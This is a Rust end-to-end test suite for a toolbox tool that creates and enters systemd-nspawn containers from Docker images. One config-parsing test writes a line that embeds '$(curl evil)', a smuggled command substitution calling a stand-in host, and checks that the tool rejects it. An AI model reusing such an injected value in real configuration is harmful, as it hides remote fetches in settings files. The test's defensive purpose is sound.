//! End to end on the real Docker daemon and systemd-nspawn: creating a toolbox from the
//! busybox and Debian test images, entering it with the host's namespaces shared, exit
//! statuses, warm starts without a daemon, and failures that leave nothing behind.

use std::fs;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::*;

#[test]
fn first_run_creates_the_toolbox_and_sees_the_host() {
    let Some(t) = TestEnv::new("first_run", BUSYBOX_IMAGE) else {
        return;
    };
    // The first command creates the toolbox.
    assert_sees_the_host(&|args| t.run(args), "/media/root");
    assert!(t.tree().join(".toolbox.json").is_file());
    assert!(
        t.tree().join("etc/os-release").is_file(),
        "the busybox image has none: toolbox adds it"
    );
    let metadata: serde_json::Value =
        serde_json::from_slice(&fs::read(t.tree().join(".toolbox.json")).unwrap()).unwrap();
    assert_eq!(metadata["image"], BUSYBOX_IMAGE);
    assert!(
        metadata["image_id"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    assert!(
        t.containers().is_empty(),
        "containers left behind: {:?}",
        t.containers()
    );
    assert!(t.leftovers().is_empty(), "left behind: {:?}", t.leftovers());
}

#[test]
fn exit_statuses_come_back() {
    let Some(t) = TestEnv::new("exit_statuses", BUSYBOX_IMAGE) else {
        return;
    };
    assert_statuses_come_back(&|args| t.run(args));
    let out = t.run(["no-such-command"]);
    assert_eq!(
        toolbox_lines(&out),
        [format!(
            "toolbox: `no-such-command`: command not found in toolbox `{}`",
            t.toolbox_name()
        )]
    );
    let out = t.run(["run", "--", "sh", "-c", "exit 3"]);
    assert_eq!(status(&out), 3, "{}", describe(&out));
}

#[test]
fn dash_c_runs_a_shell_command() {
    let Some(t) = TestEnv::new("dash_c", BUSYBOX_IMAGE) else {
        return;
    };
    let out = t.run(["-c", "echo $((6 * 7)); exit 5"]);
    assert_eq!(status(&out), 5, "{}", describe(&out));
    assert_eq!(stdout(&out), "42\n");
}

#[test]
fn warm_start_needs_no_daemon() {
    let Some(t) = TestEnv::new("warm_start", BUSYBOX_IMAGE) else {
        return;
    };
    assert_eq!(status(&t.run(["true"])), 0);
    let out = t
        .command()
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .args(["echo", "warm"])
        .output()
        .unwrap();
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(stdout(&out), "warm\n");
    assert!(toolbox_lines(&out).is_empty(), "{}", describe(&out));

    // An engine that takes the connection and never answers (a hung daemon) holds an
    // entry no longer than the short wait for whether the image changed.
    let socket = t.root.join("hung.sock");
    let _hung = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let started = std::time::Instant::now();
    let out = t
        .command()
        .env("DOCKER_HOST", format!("unix://{}", socket.display()))
        .env("TOOLBOX_UPDATE_INTERVAL", "0")
        .env("TOOLBOX_STALL_TIMEOUT", "60")
        .args(["echo", "warm"])
        .output()
        .unwrap();
    let took = started.elapsed();
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(stdout(&out), "warm\n");
    assert!(
        took < patient(std::time::Duration::from_secs(10)),
        "a hung engine held the entry for {took:?}"
    );
}

#[test]
fn coreos_trees_are_adopted_as_they_are() {
    let Some(t) = TestEnv::new("adopted", BUSYBOX_IMAGE) else {
        return;
    };
    assert_eq!(status(&t.run(["true"])), 0);
    // What the CoreOS script left: the same tree, without toolbox's metadata.
    fs::remove_file(t.tree().join(".toolbox.json")).unwrap();
    fs::write(t.tree().join("root/marker"), "mine").unwrap();
    let out = t
        .command()
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .args(["cat", "/root/marker"])
        .output()
        .unwrap();
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(stdout(&out), "mine");
}

#[test]
fn dry_run_prints_the_command_and_changes_nothing() {
    let Some(t) = TestEnv::new("dry_run", BUSYBOX_IMAGE) else {
        return;
    };
    let out = t
        .command()
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .args(["--dry-run", "ls", "-l"])
        .output()
        .unwrap();
    assert_eq!(status(&out), 0, "{}", describe(&out));
    let line = stdout(&out);
    assert!(line.starts_with("SYSTEMD_NSPAWN_SHARE_SYSTEM=1 "), "{line}");
    assert!(
        line.contains(&format!("--directory={}", t.tree().display())),
        "{line}"
    );
    assert!(
        line.trim_end()
            .ends_with("--user=root -- /run/toolbox-session -- ls -l"),
        "{line}"
    );
    assert!(
        !t.toolboxes.exists(),
        "--dry-run wrote {}",
        t.toolboxes.display()
    );
}

#[test]
fn unreachable_daemon_fails_cleanly() {
    let Some(t) = TestEnv::new("no_daemon", BUSYBOX_IMAGE) else {
        return;
    };
    let out = t
        .command()
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .arg("true")
        .output()
        .unwrap();
    assert_eq!(status(&out), 125, "{}", describe(&out));
    let lines = toolbox_lines(&out);
    assert_eq!(lines.len(), 1, "{}", describe(&out));
    assert!(
        lines[0].contains("cannot reach the Docker daemon at `unix:///nonexistent/docker.sock`"),
        "{}",
        lines[0]
    );
    assert!(!t.toolboxes.exists(), "{:?}", t.leftovers());
}

#[test]
fn missing_image_fails_cleanly() {
    let Some(t) = TestEnv::new("missing_image", BUSYBOX_IMAGE) else {
        return;
    };
    let out = t.run([
        "--image",
        "toolbox-test-no-such-image",
        "--tag",
        "gone",
        "true",
    ]);
    assert_eq!(status(&out), 125, "{}", describe(&out));
    let lines = toolbox_lines(&out);
    let errors: Vec<_> = lines
        .iter()
        .filter(|l| l.contains("cannot pull image"))
        .collect();
    assert_eq!(errors.len(), 1, "{}", describe(&out));
    assert!(
        errors[0].contains("`toolbox-test-no-such-image:gone`"),
        "{}",
        errors[0]
    );
    assert_eq!(lines.last(), Some(errors[0]), "the error is the last line");
    assert!(!t.toolboxes.exists());
    assert!(t.containers().is_empty());
}

#[test]
fn malformed_config_fails_with_file_and_line() {
    let Some(t) = TestEnv::new("bad_config", BUSYBOX_IMAGE) else {
        return;
    };
    let rc = t.home.join(".toolboxrc");
    fs::write(
        &rc,
        "# site settings\nTOOLBOX_BIND=\"$TOOLBOX_BIND\"\nTOOLBOX_FLAGS=$(curl evil)\n",
    )
    .unwrap();
    let out = t.run(["true"]);
    assert_eq!(status(&out), 125, "{}", describe(&out));
    assert_eq!(
        toolbox_lines(&out),
        [format!(
            "toolbox: {}:3: command substitution ($(...)) is not supported",
            rc.display()
        )]
    );
    assert!(!t.toolboxes.exists());
}

#[test]
fn config_files_and_options_shape_the_toolbox() {
    let Some(t) = TestEnv::new("config", BUSYBOX_IMAGE) else {
        return;
    };
    let conf = t.home.join(".config/toolbox/toolbox.conf");
    fs::create_dir_all(conf.parent().unwrap()).unwrap();
    fs::write(&conf, "export TOOLBOX_ENV=\"'--setenv=GREETING=hello world'\"\nTOOLBOX_BIND=\"$TOOLBOX_BIND --bind-ro=/etc/hostname:/host-hostname\"\n").unwrap();
    let out = t.run(["sh", "-c", "echo \"$GREETING\"; cat /host-hostname"]);
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(
        stdout(&out),
        format!(
            "hello world\n{}",
            fs::read_to_string("/etc/hostname").unwrap()
        )
    );
}

#[test]
fn interrupted_creation_leaves_nothing_behind() {
    let Some(t) = TestEnv::new("interrupted", DEBIAN_IMAGE) else {
        return;
    };
    let child = t
        .command()
        .arg("true")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let prefix = format!(".{}.partial-", t.toolbox_name());
    let deadline = Instant::now() + Duration::from_secs(60);
    // Wait until the unpack has started, then interrupt as Ctrl-C would.
    loop {
        let started = fs::read_dir(&t.toolboxes).ok().is_some_and(|entries| {
            entries.flatten().any(|e| {
                e.file_name().to_string_lossy().starts_with(&prefix)
                    && e.path().join("usr").exists()
            })
        });
        if started {
            break;
        }
        assert!(Instant::now() < deadline, "the creation never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(status(&out), 130, "{}", describe(&out));
    assert_eq!(
        toolbox_lines(&out).last().map(String::as_str),
        Some("toolbox: interrupted by signal 2")
    );
    assert!(!t.tree().exists());
    assert!(t.leftovers().is_empty(), "left behind: {:?}", t.leftovers());
    assert!(
        t.containers().is_empty(),
        "containers left behind: {:?}",
        t.containers()
    );
}

#[test]
fn debian_tools_attach_to_host_processes() {
    let Some(t) = TestEnv::new("debian_tools", DEBIAN_IMAGE) else {
        return;
    };
    let mut sleeper = Command::new("sleep").arg("300").spawn().unwrap();
    let pid = sleeper.id().to_string();

    let out = t.run(["sh", "-c", &format!("timeout 2 strace -p {pid} 2>&1; true")]);
    let strace = describe(&out);
    let out_gdb = t.run(["gdb", "-p", &pid, "-batch", "-ex", "bt"]);
    let gdb = describe(&out_gdb);
    let caps = t.run(["getcap", "/usr/bin/ping"]);
    let su = t.run(["stat", "-c", "%a %U", "/usr/bin/su"]);
    let ping = t.run(["sh", "-c", "ls -l /usr/bin/ping"]);
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();

    assert!(
        stdout(&out).contains(&format!("Process {pid} attached")),
        "strace: {strace}"
    );
    assert_eq!(status(&out_gdb), 0, "gdb: {gdb}");
    assert!(
        stdout(&out_gdb).contains("#0 "),
        "gdb printed no backtrace: {gdb}"
    );
    assert_eq!(
        stdout(&caps).trim(),
        "/usr/bin/ping cap_net_raw=ep",
        "{}",
        describe(&caps)
    );
    assert!(
        stdout(&ping).starts_with("-rwxr-xr-x"),
        "ping must not need setuid: {}",
        describe(&ping)
    );
    assert_eq!(stdout(&su).trim(), "4755 root", "{}", describe(&su));
    assert!(t.containers().is_empty());
}

#[test]
fn verbosity_says_what_and_why() {
    let Some(t) = TestEnv::new("verbosity", BUSYBOX_IMAGE) else {
        return;
    };
    let rc = t.home.join(".toolboxrc");
    fs::write(&rc, "TOOLBOX_ENV=\"--setenv=EDITOR=vi\"\n").unwrap();
    let out = t.run(["-v", "true"]);
    assert_eq!(status(&out), 0, "{}", describe(&out));
    let lines = toolbox_lines(&out);
    let has = |prefix: &str| lines.iter().any(|l| l.starts_with(prefix));
    assert!(
        has(&format!("toolbox: read settings from {}", rc.display())),
        "{lines:?}"
    );
    // The testbed's Podman configuration has no Docker: toolbox finds Podman's socket.
    let engine = match std::env::var("TOOLBOX_E2E_TESTBED").as_deref() {
        Ok("podman") => "toolbox: Podman at unix://",
        _ => "toolbox: the Docker daemon at unix://",
    };
    assert!(has(engine), "{lines:?}");
    assert!(lines.iter().any(|l| l.contains("(API 1.")), "{lines:?}");
    assert!(has("toolbox: systemd-nspawn "), "{lines:?}");
    assert!(
        lines.iter().any(|l| l.contains("copy storage")),
        "{lines:?}"
    );
    assert!(
        !has("toolbox: SYSTEMD_NSPAWN_"),
        "-v leaves the command out: {lines:?}"
    );

    let out = t.run(["-vv", "true"]);
    assert_eq!(status(&out), 0, "{}", describe(&out));
    let command = toolbox_lines(&out)
        .into_iter()
        .find(|l| l.starts_with("toolbox: SYSTEMD_NSPAWN_"))
        .unwrap_or_else(|| panic!("-vv prints the command: {}", describe(&out)));
    assert!(command.contains(" --directory=") && command.contains("--setenv=EDITOR=vi"));

    // Quiet: a creation says nothing at all.
    let out = t.run(["-q", "--name", "quiet", "true"]);
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert!(t.toolboxes.join("tester-quiet").exists());
    assert!(toolbox_lines(&out).is_empty(), "{}", describe(&out));
}

#[test]
fn signals_and_commands_that_cannot_run_give_the_statuses_shells_give() {
    let Some(t) = TestEnv::new("statuses", BUSYBOX_IMAGE) else {
        return;
    };
    for (script, expected) in [("kill -9 $$", 137), ("kill -TERM $$", 143), ("exit 3", 3)] {
        let out = t.run(["-c", script]);
        assert_eq!(status(&out), expected, "{script}: {}", describe(&out));
    }
    // host-exec: as the launcher reports a command that cannot run.
    let out = t.run(["host-exec", "toolbox-no-such-command"]);
    assert_eq!(status(&out), 127, "{}", describe(&out));
    assert_eq!(
        toolbox_lines(&out),
        ["toolbox: `toolbox-no-such-command`: command not found on the host"]
    );
    let out = t.run(["host-exec", "/etc/passwd"]);
    assert_eq!(status(&out), 126, "{}", describe(&out));
    // Run by a user other than root inside, it says what it needs.
    let out = t.run(["--user", "nobody", "host-exec", "true"]);
    assert_eq!(status(&out), 125, "{}", describe(&out));
    assert!(
        toolbox_lines(&out)[0].contains("host-exec needs root inside the toolbox"),
        "{}",
        describe(&out)
    );
}

#[test]
fn users_are_found_in_images_without_getent() {
    let Some(t) = TestEnv::new("users", BUSYBOX_IMAGE) else {
        return;
    };
    // busybox has no `getent`, which systemd-nspawn's own --user needs.
    let out = t.run([
        "--user",
        "nobody",
        "sh",
        "-c",
        "id -u; id -g; echo $HOME $USER",
    ]);
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(stdout(&out), "65534\n65534\n/ nobody\n");
    // A host user the image lacks is added from the host's passwd, then found.
    let out = t
        .command()
        .env("TOOLBOX_USER", "daemon")
        .args(["id", "-un"])
        .output()
        .unwrap();
    assert_eq!(status(&out), 0, "{}", describe(&out));
    assert_eq!(stdout(&out), "daemon\n");
    // Neither in the image nor on the host: one line, 125.
    let out = t.run(["--user", "toolbox-nonexistent", "true"]);
    assert_eq!(status(&out), 125, "{}", describe(&out));
    assert_eq!(
        toolbox_lines(&out),
        [
            "toolbox: user `toolbox-nonexistent` is not in the toolbox's /etc/passwd; add it, \
             or choose another --user"
        ]
    );
}
